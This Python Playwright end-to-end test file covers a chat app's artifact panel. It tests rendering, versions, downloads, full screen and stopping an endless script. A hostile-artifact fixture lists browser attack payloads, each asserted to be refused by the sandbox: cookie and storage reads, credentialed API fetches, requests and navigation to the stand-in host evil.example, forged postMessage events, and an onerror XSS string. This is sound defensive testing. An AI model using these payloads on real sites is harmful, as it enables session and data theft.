"""What a model writes, looked at beside the chat; what a hostile one does not reach."""

import json
import os
import re
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, FrameLocator, Locator, Page, expect

from infra.chromium import chromium_path
from tests.e2e.conftest import ARGUMENTS
from tests.e2e.images import keep_image
from tests.e2e.inserted_conversations import insert_branch
from tests.e2e.test_accessibility import PHONE, assert_accessible
from tests.e2e.test_reading import press_until
from tests.e2e.users import Person, SignUp, Visitor, copied, until
from tests.support.scripted import ScriptedProduct

COUNTER = """<!doctype html>
<title>Counter</title>
<style>body {{ font: 20px system-ui; padding: 2rem }} button {{ font: inherit }}</style>
<h1>{heading}</h1>
<button onclick="count.textContent = Number(count.textContent) + 1">More</button>
<output id="count">0</output>
<p>{words}</p>
<script>document.body.dataset.ran = "yes"</script>
"""
DRAWING = '<svg viewBox="0 0 10 10"><title>Dot</title><circle cx="5" cy="5" r="4"/></svg>'

# Each is tried by the artifact itself, as a model would have written it; what came of it is in its
# own document, which only a debugger can read.
ATTEMPTS = {
    "the page's document": "top.document.body.innerHTML",
    "its holder's document": "parent.document.body.innerHTML",
    "the page's address": "top.location.href",
    "cookies": "document.cookie",
    "local storage": "localStorage.length",
    "session storage": "sessionStorage.length",
    "databases": "new Promise((y, n) => { const r = indexedDB.open('x');"
    " r.onsuccess = y; r.onerror = n; })",
    "caches": "caches.keys()",
    "our API": "fetch('/api/me', {credentials: 'include'})",
    "our API by address": "fetch(ORIGIN + '/api/me', {credentials: 'include', mode: 'no-cors'})",
    "another server": "fetch('https://evil.example/', {mode: 'no-cors'})",
    "an older request": "new Promise((y, n) => { const x = new XMLHttpRequest();"
    " x.open('GET', ORIGIN + '/api/me'); x.onload = y; x.onerror = n; x.send(); })",
    "a socket": "new Promise((y, n) => { const s = new WebSocket('wss://evil.example/');"
    " s.onopen = y; s.onerror = n; })",
    "an event source": "new Promise((y, n) => { const s = new EventSource(ORIGIN + '/api/x');"
    " s.onopen = y; s.onerror = n; })",
    "a peer": "new RTCPeerConnection({iceServers: [{urls: 'stun:evil.example'}]})",
    "a peer by its older name": "new webkitRTCPeerConnection({})",
    "an image": "element('img', {src: 'https://evil.example/pixel.png'})",
    "an image of ours": "element('img', {src: ORIGIN + '/static/app/favicon.svg'})",
    "a script": "element('script', {src: 'https://evil.example/x.js'})",
    "a script of ours": "element('script', {src: ORIGIN + '/static/app/theme.js'})",
    "a style sheet": "element('link', {rel: 'stylesheet', href: 'https://evil.example/x.css'})",
    "a module": "import('https://evil.example/x.js')",
    "evaluation": "eval('1 + 1')",
    "a worker": "new Promise((y, n) => { const w = new Worker(URL.createObjectURL("
    "new Blob(['postMessage(1)']))); w.onmessage = y; w.onerror = n; })",
    "a window": "window.open('https://evil.example/') ?? refuse()",
    "a question": "confirm('?') || refuse()",
    "the clipboard": "navigator.clipboard.readText()",
    "the microphone": "navigator.mediaDevices.getUserMedia({audio: true})",
    "full screen": "document.documentElement.requestFullscreen()",
    "leading the page away": "lead()",
}
HOSTILE = """<!doctype html>
<title>Hostile</title>
<pre id="report"></pre>
<form id="form" action="https://evil.example/" method="post"><input name="a" value="b"></form>
<a id="away" href="https://evil.example/" target="_top">Away</a>
<script>
const ORIGIN = {origin};
const refuse = () => {{ throw new Error("refused"); }};
const lead = () => {{ top.location = "https://evil.example/"; }};
const element = (name, attributes) => new Promise((done, refused) => {{
  const made = Object.assign(document.createElement(name), attributes);
  made.onload = done;
  made.onerror = refused;
  document.body.append(made);
}});
const attempts = {{ {attempts} }};
(async () => {{
  const came = {{}};
  // All at once: those that are never answered would wait for each other's end.
  await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {{
    const late = new Promise((_, refused) => setTimeout(refused, 4000));
    try {{ await Promise.race([attempt(), late]); came[name] = "came through"; }}
    catch {{ came[name] = "refused"; }}
    report.dataset.tried = Object.keys(came).length;
  }}));
  form.submit();
  away.click();
  for (let count = 0; count < 2000; count += 1) {{
    top.postMessage({{ type: "ready", count }}, "*");
    parent.postMessage({{ type: "show", html: "<h1>Forged</h1>", whole: true }}, "*");
  }}
  report.textContent = JSON.stringify(came);
  report.onclick = () => {{ location = "https://evil.example/?" + document.title; }};
}})();
</script>
"""

# What is to happen every five seconds happens five times a second.
QUICKER = """
  const begin = window.setInterval;
  window.setInterval = (work, ms) => begin(work, ms === 5_000 ? 200 : ms);
"""


@pytest.fixture
def visit(visit_scripted: Callable[..., Visitor]) -> Callable[..., Visitor]:
    return visit_scripted


def fenced(language: str, code: str) -> str:
    return f"```{language}\n{code}\n```"


def panel(page: Page) -> Locator:
    return page.get_by_role("complementary", name="Artifact")


def shown(page: Page) -> FrameLocator:
    """The document of the artifact: the frame within the frame, the newest while two are there."""
    return panel(page).frame_locator("iframe").locator("iframe").last.content_frame


AT_A_DESK = (
    "tests/e2e/test_artifacts.py"
    "::test_artifact_is_looked_at_in_its_versions_and_a_hostile_one_reaches_nothing[desktop]"
)


@pytest.mark.parametrize(
    "device",
    ["desktop", pytest.param("phone", marks=pytest.mark.nightly(beside=AT_A_DESK))],
)
def test_artifact_is_looked_at_in_its_versions_and_a_hostile_one_reaches_nothing(
    sign_up: SignUp, scripted_product: ScriptedProduct, device: str
) -> None:
    scheme = {"color_scheme": "dark"} if device == "phone" else {}
    person = sign_up(**(PHONE if device == "phone" else {}), **scheme)
    page = person.page
    person.visitor.expect_sandbox()  # the accessibility checks cannot speak to the frame
    first = fenced("html", COUNTER.format(heading="Plain", words="The first."))
    second = fenced("html", COUNTER.format(heading="Better", words="The second."))
    document = "# Plan\n\n<img src=x onerror=alert(1)>\n\n- **one**"
    diagram = "flowchart TD\n  accTitle: Way\n  A --> B"
    last = (second, *map(fenced, ("svg", "markdown", "mermaid"), (DRAWING, document, diagram)))
    texts = ["Write a counter", first, "Better", "\n\n".join(last)]
    person.open(f"/c/{insert_branch(scripted_product, person, 'Counters', texts)}")
    opener = person.answer.get_by_role("button", name="Open")
    press_until(person.answer, "Open", panel(page))
    expect(panel(page)).to_be_focused()
    artifact = shown(page)
    expect(artifact.get_by_role("heading", name="Better")).to_be_visible()
    artifact.get_by_role("button", name="More").click()
    expect(artifact.get_by_role("status")).to_have_text("1")
    assert_accessible(page, f"an artifact on a {device}")
    keep_image(page, f"artifact-{device}")

    expect(panel(page).get_by_text("2 of 2")).to_be_visible()
    panel(page).get_by_role("button", name="Earlier version").click()
    expect(artifact.get_by_role("heading", name="Plain")).to_be_visible()
    expect(panel(page).get_by_role("button", name="Earlier version")).to_be_disabled()
    panel(page).get_by_role("radio", name="Code").click()
    expect(panel(page).locator("pre")).to_contain_text("The first.")
    keep_image(page, f"artifact-code-{device}")
    with page.expect_download() as saved:
        panel(page).get_by_role("button", name="Download").click()
    assert saved.value.suggested_filename == "Counter.html"
    assert "The first." in saved.value.path().read_text()
    copy = panel(page).get_by_role("button", name="Copy code", exact=True).first
    assert "The first." in copied(page, copy)

    if device == "desktop":
        panel(page).get_by_role("button", name="Full screen").click()
        box = panel(page).bounding_box()
        assert box and page.viewport_size and box["width"] == page.viewport_size["width"]
        covered = page.get_by_role("navigation", name="Conversations")
        assert covered.evaluate("(element) => element.closest('[inert]') !== null")
        page.keyboard.press("Escape")
        expect(person.composer).to_be_visible()
    page.keyboard.press("Escape")
    expect(panel(page)).to_have_count(0)
    until(page, "document.activeElement?.closest('main') !== null")
    opener.nth(1).click()
    expect(shown(page).locator("circle")).to_be_visible()

    # Documents and diagrams need no frame.
    page.keyboard.press("Escape")
    opener.nth(2).click()
    expect(panel(page).get_by_role("heading", name="Plan", level=1)).to_be_visible()
    expect(panel(page).locator("iframe, img")).to_have_count(0)
    page.keyboard.press("Escape")
    expect(person.answer.get_by_role("img", name="Way")).to_be_visible()
    opener.nth(3).click()
    expect(panel(page).get_by_role("img", name="Way")).to_be_visible()
    page.keyboard.press("Escape")
    if device == "desktop":
        hostile_artifact_reaches_nothing(person, scripted_product)


def test_artifact_is_shown_while_it_is_written(
    sign_up: SignUp, scripted_product: ScriptedProduct
) -> None:
    """What has come is laid out; its scripts run when it is whole; the next version is followed."""
    person = sign_up()
    page = person.page
    person.visitor.expect_sandbox()  # each script of an unfinished artifact is logged
    person.open("/")
    words = " ".join(f"word{number}" for number in range(300))
    scripted_product.says(fenced("html", COUNTER.format(heading="Live", words=words)), rate=10)
    person.say("Write a counter")
    person.answer.get_by_role("button", name="Open").click()
    expect(panel(page).get_by_text("Being written")).to_be_visible()
    artifact = shown(page)
    expect(artifact.get_by_text("word3 ")).to_be_visible()
    assert artifact.locator("body").get_attribute("data-ran") is None
    scripted_product.hurries()
    expect(artifact.get_by_text("word299")).to_be_visible()
    expect(artifact.locator("body[data-ran=yes]")).to_be_visible()
    expect(panel(page).get_by_text("Being written")).to_have_count(0)

    person.wait_for_the_end()
    scripted_product.says(fenced("html", COUNTER.format(heading="Next", words="Done.")), rate=60)
    person.say("Another")
    expect(panel(page).get_by_text("2 of 2")).to_be_visible()
    expect(artifact.get_by_role("heading", name="Next")).to_be_visible()


def hostile_artifact_reaches_nothing(person: Person, product: ScriptedProduct) -> None:
    """Dialogs, requests to other origins and errors fail the test at its end."""
    page = person.page
    person.visitor.expect_refusals()
    attempts = ", ".join(
        f"{json.dumps(name)}: async () => {tried}" for name, tried in ATTEMPTS.items()
    )
    code = HOSTILE.format(origin=json.dumps(person.visitor.url), attempts=attempts)
    texts = ["Harm", fenced("html", code)]
    address = f"/c/{insert_branch(product, person, 'Hostile', texts)}"
    person.go(address)
    person.answer.get_by_role("button", name="Open").click()
    report = shown(page).locator("#report")
    expect(report).to_have_attribute("data-tried", str(len(ATTEMPTS)))
    expect(report).to_have_text(re.compile(r"^\{.+\}$"))
    assert json.loads(report.inner_text()) == dict.fromkeys(ATTEMPTS, "refused")
    # Its own frame cannot be led away either: the one around it allows no address.
    report.click()
    person.composer.fill("Still here")
    expect(person.composer).to_have_value("Still here")
    expect(shown(page).get_by_role("heading", name="Forged")).to_have_count(0)
    assert page.url.endswith(address)
    assert person.visitor.tabs == [page]
    # It is opaque without the attribute of its holder too.
    reached = page.evaluate(
        """async () => {
          const frame = document.createElement('iframe');
          frame.src = '/frames/artifact';
          document.body.append(frame);
          await new Promise((done) => { frame.onload = done; });
          try { return frame.contentDocument?.body ? 'reached' : 'opaque'; }
          catch { return 'opaque'; }
        }"""
    )
    assert reached == "opaque"


@pytest.fixture
def isolating_browser(browser: Browser) -> Iterator[Browser]:
    """Sites and sandboxed frames in processes of their own, as Chrome has them on a desktop."""
    isolation = ["--site-per-process", "--enable-features=IsolateSandboxedIframes"]
    sandbox = ["--no-sandbox"] if os.geteuid() == 0 else []
    arguments = [*ARGUMENTS, *isolation, *sandbox]
    started = browser.browser_type.launch(executable_path=chromium_path(), args=arguments)
    yield started
    started.close()


def test_artifact_that_never_ends_is_stopped(
    isolating_browser: Browser, scripted_product: ScriptedProduct
) -> None:
    person = Person(Visitor(isolating_browser, scripted_product.url))
    # It turns for as long as the page waits: a twenty-fifth of a person's time.
    person.context.add_init_script(QUICKER)
    page = person.page
    texts = ["Loop", fenced("html", "<title>Loop</title><script>for (;;) {}</script>")]
    person.open(f"/c/{insert_branch(scripted_product, person, 'Loop', texts)}")
    person.answer.get_by_role("button", name="Open").click()
    expect(panel(page)).to_be_visible()
    person.composer.fill("The page goes on")
    expect(panel(page).get_by_text("This artifact was stopped")).to_be_visible(timeout=120_000)
    expect(panel(page).locator("iframe")).to_have_count(0)
    panel(page).get_by_role("button", name="Close artifact").click()
    expect(person.composer).to_have_value("The page goes on")
    person.visitor.leave()
